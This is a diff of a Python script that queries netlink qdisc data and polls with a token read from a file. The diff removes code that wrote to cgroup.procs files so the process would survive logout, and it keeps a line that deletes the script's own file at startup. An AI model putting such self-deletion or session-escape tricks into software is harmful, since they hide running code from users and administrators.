@@ -25,7 +25,6 @@ CLONE_NEWNET = 0x40000000
 NLMSG_ERROR, NLMSG_DONE = 2, 3
 RTM_GETQDISC, REQUEST, ACK, DUMP = 38, 1, 4, 0x300
 ROOT = 0xFFFFFFFF
-CGROUPS = ("/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/unified/cgroup.procs", "/sys/fs/cgroup/systemd/cgroup.procs")
 LONGEST_SLEEP = 60.0
 
 
@@ -155,9 +154,6 @@ def end(record: dict[str, t.Any]) -> None:
 def main(path: str) -> None:
     with contextlib.suppress(OSError):
         os.unlink(sys.argv[0])
-    for procs in CGROUPS:  # the end of a login's session is not the end of this
-        with contextlib.suppress(OSError), open(procs, "w", encoding="ascii") as handle:
-            handle.write("0")
     with open(path, encoding="ascii") as handle:
         token = json.load(handle)["token"]
     while True:
